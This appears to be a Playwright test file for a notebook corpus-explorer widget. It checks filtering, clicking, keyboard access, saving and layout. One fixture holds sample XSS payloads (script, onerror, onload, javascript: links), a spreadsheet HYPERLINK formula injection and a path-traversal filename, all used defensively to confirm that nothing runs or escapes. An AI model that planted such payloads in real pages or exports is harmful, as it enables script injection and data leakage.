"""The explorer in a browser, used as a person would: choose, type, drag, click a bar, a point and a row, read, save."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable

import pytest
from playwright.sync_api import expect

from browser.notebook_page import NotebookPage
from browser.watched_page import SCREEN

OpenCells = Callable[..., NotebookPage]
OPEN = 'import corpus_lib as cl\ncorpus = cl.build_corpus("{}", derived="../data/{}")'
EXPLORE = 'cl.explore(corpus, folder="../data/figures"{})'
#: Everything that must not run, in the words of an article: a script, an event, a formula, a link that runs.
HOSTILE = """China and the United States <script>window.ran = 1</script> resume talks
By A <img src=x onerror="window.ran = 2"> Reporter, 13 May 2023
The United States accused China of "<b onmouseover='window.ran = 3'>spying</b>" on Friday, said Wang Yi, the Chinese foreign minister.
=HYPERLINK("http://example.org/?"&A1,"click") said the United States will impose new sanctions on China next week.
"<svg/onload=window.ran=4> 中国外交部发言人 \u202eevitcer\u202c مرحبا بالعالم," US President Joe Biden said on Saturday, and China agreed to meet.
[x](javascript:window.ran=5) ${7*7}$ $x_{1}$ The US warned China over <iframe srcdoc="<script>parent.ran=6</script>"></iframe> Taiwan.
"""


@pytest.fixture
def explorer(open_cells: OpenCells) -> NotebookPage:
    """The explorer of the seeds, open on their acts."""
    return open_cells(OPEN.format("../seeds", "derived"), EXPLORE.format("")).run_all()


def say(notebook: NotebookPage) -> str:
    """The line of Python that the explorer shows."""
    return notebook.page.get_by_label("In Python", exact=True).input_value().splitlines()[0]


def test_a_person_explores(explorer: NotebookPage):
    app, page = explorer.output("cl.explore"), explorer.page
    picture = app.locator("img")
    found = app.locator(".widget-html").filter(has_text=re.compile(r"acts? in \d+ articles? of 5"))
    with explorer.changes(picture):
        explorer.choose("Voice", "quoted")
    expect(found).to_contain_text("voice: quoted")
    with explorer.changes(picture):
        explorer.choose("Split by", "speaker's side")
    with explorer.changes(picture):
        explorer.type("Find", "China")
    explorer.drag_slider("Published", 0.15)
    expect(page.get_by_label("From", exact=True)).not_to_have_value("")
    since = page.get_by_label("From", exact=True).input_value()
    explorer.press_slider("Published", "ArrowRight")
    explorer.settle()
    assert page.get_by_label("From", exact=True).input_value() > since
    assert re.fullmatch(
        r"cl\.explore\(corpus, 'acts', since='2023-\d\d-\d\d', words='China', voice='quoted', by='side'\)",
        say(explorer),
    )
    with explorer.changes(picture):
        page.get_by_role("button", name="Clear all filters").click()
    explorer.settle()
    assert say(explorer) == "cl.explore(corpus, 'acts', by='side')"
    explorer.assert_clean()


def test_a_bar_and_a_row_open_what_is_behind_them(explorer: NotebookPage):
    app, page = explorer.output("cl.explore"), explorer.page
    picture = app.locator("img")
    tallest = page.get_by_label("Period", exact=True).locator("option").all_inner_texts()[1]
    box = picture.bounding_box()
    assert box
    for share in range(10, 80):  # from the left until a bar is met
        page.mouse.click(box["x"] + box["width"] * share / 100, box["y"] + box["height"] * 0.6)
        explorer.settle()
        if "period=" in say(explorer):
            break
    name = page.get_by_label("Period", exact=True).evaluate("e => e.selectedOptions[0].label")
    assert name == tallest
    rows = app.locator("table.dataTable tbody tr")
    n = int(re.findall(r"\((\d+)\)", name)[0])
    expect(app.get_by_text(re.compile(f"^{n} acts? in"))).to_be_visible()
    expect(rows).to_have_count(min(n, 8))
    sentence = rows.nth(1).locator("td").last.inner_text().rstrip("…")
    explorer.click_row(2, app.locator("table.dataTable"))
    article = app.get_by_role("region", name="Article")
    chosen = article.locator(".chosen").first
    expect(chosen).to_be_visible()
    explorer.settle()
    where, pane = chosen.bounding_box(), article.bounding_box()
    assert where
    assert pane
    assert pane["y"] <= where["y"] <= pane["y"] + pane["height"], "the pane has moved to the passage"
    assert sentence[:40] in " ".join(article.inner_text().split())
    with_lines = app.get_by_label("Removed lines", exact=True)
    expect(article.locator("del")).to_have_count(0)
    with_lines.check()
    expect(article.locator("del").first).to_be_attached()
    explorer.assert_clean()


def test_a_point_opens_the_sentences_behind_it(explorer: NotebookPage):
    app, page = explorer.output("cl.explore"), explorer.page
    picture = app.locator("img")
    with explorer.changes(picture):
        explorer.choose("Picture", "when it happened, when it was told")
    box = picture.bounding_box()
    assert box
    told = app.get_by_text(re.compile(r"happened \d+ \w+ \d+, told"))
    for down in range(5, 75, 2):
        for across in range(10, 70, 2):
            page.mouse.click(box["x"] + box["width"] * across / 100, box["y"] + box["height"] * down / 100)
            explorer.settle()
            if told.count():
                break
        if told.count():
            break
    expect(told).to_be_visible()
    app.get_by_role("button", name="Sentences", exact=True).click()
    expect(app.get_by_text(re.compile(r"^In the sentences:"))).to_be_visible()
    explorer.assert_clean()


def test_everything_can_be_done_with_the_keyboard(explorer: NotebookPage):
    app, page = explorer.output("cl.explore"), explorer.page
    page.get_by_label("Look at", exact=True).focus()
    page.keyboard.type("Words")
    page.keyboard.press("Tab")
    page.keyboard.type("balloon")
    page.keyboard.press("Enter")
    explorer.settle()
    assert say(explorer) == "cl.explore(corpus, 'words', words='balloon')"
    button = app.get_by_role("button", name="Words in context", exact=True)
    button.focus()
    page.keyboard.press("Enter")
    expect(app.locator("bdi").first).to_be_visible()
    row = page.get_by_label("Read row", exact=True)
    row.focus()
    page.keyboard.press("Control+a")
    page.keyboard.type("2")
    page.keyboard.press("Tab")
    expect(app.get_by_role("region", name="Article").locator(".chosen")).to_have_text(
        re.compile("balloon", re.IGNORECASE)
    )
    explorer.assert_clean()


def test_changes_in_quick_succession_are_not_lost(explorer: NotebookPage):
    explorer.choose("Voice", "quoted")
    explorer.choose("Quadrant", "verbal cooperation")
    explorer.choose("Count", "articles")
    explorer.settle()
    wanted = "cl.explore(corpus, 'acts', voice='quoted', quad='verbal_cooperation', count='articles')"
    expect(explorer.page.get_by_label("In Python", exact=True)).to_have_value(
        re.compile("^" + re.escape(wanted))
    )
    explorer.assert_clean()


def test_figure_and_rows_are_saved_as_shown(explorer: NotebookPage):
    app, page = explorer.output("cl.explore"), explorer.page
    explorer.choose("Voice", "quoted")
    explorer.type("Save as", "by-hand")
    explorer.settle()  # a shorter table moves the button
    page.get_by_role("button", name="Save figure", exact=True).click()
    expect(app.get_by_text(re.compile(r"^Saved: .*by-hand\.png"))).to_be_visible()
    assert explorer.saved("data/figures/by-hand.png").startswith(b"\x89PNG")
    page.get_by_role("button", name="Save rows", exact=True).click()
    expect(app.get_by_text(re.compile(r"^Saved: .*by-hand-rows\.csv"))).to_be_visible()
    rows = list(
        csv.DictReader(io.StringIO(explorer.saved("data/figures/by-hand-rows.csv").decode("utf-8-sig")))
    )
    assert {row["voice"] for row in rows} == {"quoted"}
    explorer.type("Save as", "../elsewhere")
    page.get_by_role("button", name="Save rows", exact=True).click()
    expect(app.get_by_role("alert")).to_contain_text("letters, digits and hyphens only")
    explorer.assert_clean()


def test_at_twice_the_size_nothing_is_cut(explorer: NotebookPage):
    app, page = explorer.output("cl.explore"), explorer.page
    page.set_viewport_size({"width": SCREEN["width"] // 2, "height": SCREEN["height"]})
    page.keyboard.press("Control+b")  # the file browser gives its room
    explorer.settle()
    area = app.bounding_box()
    assert area
    controls = app.locator(
        "select:visible, input[type=text]:visible, input[type=date]:visible, img, textarea"
    )
    assert controls.count() > 15
    for control in controls.all():
        box = control.bounding_box()
        assert box
        assert area["x"] - 1 <= box["x"]
        assert box["x"] + box["width"] <= area["x"] + area["width"] + 1
    page.set_viewport_size(SCREEN)


@pytest.mark.parametrize("kind", ["articles", "words", "statements", "acts", "judgements"])
def test_nothing_of_an_article_runs(open_cells: OpenCells, lab, kind: str):
    folder = lab.root / "data" / "hostile"
    folder.mkdir(exist_ok=True)
    (folder / "hostile.txt").write_text(HOSTILE, "utf-8")
    options = f", kind='{kind}', words='the'"
    notebook = open_cells(
        OPEN.format("../data/hostile", "hostile-derived"), EXPLORE.format(options)
    ).run_all()
    app, page = notebook.output("cl.explore"), notebook.page
    expect(app.get_by_text(re.compile(r"of 1\b")).first).to_be_visible()
    page.get_by_label("Read row", exact=True).fill("1")
    page.get_by_label("Removed lines", exact=True).check()
    article = app.get_by_role("region", name="Article")
    expect(article).to_contain_text("<script>window.ran = 1</script>")
    expect(article).to_contain_text("中国外交部发言人")
    for view in ("Sentences", "Words in context", "Table"):
        app.get_by_role("button", name=view, exact=True).click()
        notebook.settle()
        for tag in (
            "script",
            "iframe",
            "svg[onload]",
            "img[onerror]",
            "[onmouseover]",
            "a[href^=javascript]",
        ):
            assert app.locator(tag).count() == 0, (view, tag)
    app.locator("td, span").first.hover()
    notebook.type("Save as", f"hostile-{kind}")
    page.get_by_role("button", name="Save rows", exact=True).click()
    expect(app.get_by_text(re.compile(r"^Saved: "))).to_be_visible()
    saved = notebook.saved(f"data/figures/hostile-{kind}-rows.csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(saved)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in "=+@\t\r" and cell]
    assert page.evaluate("window.ran") is None
    notebook.assert_clean()
